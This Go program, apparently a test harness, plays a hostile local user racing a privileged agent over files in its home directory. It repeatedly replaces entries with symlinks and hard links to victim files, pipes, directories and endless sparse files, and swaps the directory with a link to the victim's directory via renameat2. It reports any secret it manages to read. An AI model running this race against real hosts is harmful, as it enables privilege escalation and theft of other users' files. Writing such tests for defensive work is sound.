// Command hostile is a user of a host who races with its agent for what is declared in his home. It runs until it is asked to end, and tells how
// often it went around; a line that begins with "leak" tells what it could read and must not.
//
//	hostile DIR SECRET VICTIM...
package main

import (
	"bytes"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"

	"golang.org/x/sys/unix"
)

const (
	// endless is the size of a file that has no end for whoever reads it.
	endless = 1 << 40
	// tellEvery is after how many rounds it tells that it goes on.
	tellEvery = 100
	// readMax is how much of a file it reads.
	readMax = 4096
)

func main() {
	dir, secret, victims := os.Args[1], []byte(os.Args[2]), os.Args[3:]
	ended := make(chan os.Signal, 1)
	signal.Notify(ended, syscall.SIGTERM)
	for round := 1; len(ended) == 0; round++ {
		victim := victims[round%len(victims)]
		for _, name := range names(dir) {
			replace(name, victim)
		}
		spy(dir, secret)
		aside(dir, filepath.Dir(victim))
		if round%tellEvery == 0 {
			fmt.Println("rounds", round)
		}
	}
}

// names are those of all that is in the directory, and below it.
func names(dir string) (all []string) {
	_ = filepath.WalkDir(dir, func(name string, _ os.DirEntry, err error) error {
		if err == nil && name != dir {
			all = append(all, name)
		}
		return nil
	})
	return all
}

// replace puts one thing after the other in the place of what is declared: links of both kinds to the victim, a pipe, a directory, a file without end.
func replace(name, victim string) {
	_ = unix.Unlink(name)
	_ = unix.Symlink(victim, name)
	_ = unix.Unlink(name)
	_ = unix.Link(victim, name)
	_ = unix.Unlink(name)
	_ = unix.Mkfifo(name, 0o666)
	_ = unix.Unlink(name)
	_ = unix.Mkdir(name, 0o777)
	_ = unix.Rmdir(name)
	if fd, err := unix.Open(name, unix.O_CREAT|unix.O_WRONLY|unix.O_NOFOLLOW|unix.O_NONBLOCK, 0o666); err == nil {
		_, _ = unix.Write(fd, []byte("his\n"))
		_ = unix.Ftruncate(fd, endless)
		_ = unix.Close(fd)
	}
}

// aside puts a link to the victim's directory in the place of his own, and takes it away again.
func aside(dir, victims string) {
	other := dir + ".other"
	_ = unix.Symlink(victims, other)
	for range 2 {
		_ = unix.Renameat2(unix.AT_FDCWD, dir, unix.AT_FDCWD, other, unix.RENAME_EXCHANGE)
	}
	_ = unix.Unlink(other)
}

// spy reads whatever he may of what is in the directory, temporaries too.
func spy(dir string, secret []byte) {
	for _, name := range names(dir) {
		fd, err := unix.Open(name, unix.O_RDONLY|unix.O_NONBLOCK, 0)
		if err != nil {
			continue
		}
		text := make([]byte, readMax)
		n, _ := unix.Read(fd, text)
		_ = unix.Close(fd)
		if bytes.Contains(text[:max(n, 0)], secret) {
			fmt.Println("leak", name)
		}
	}
}
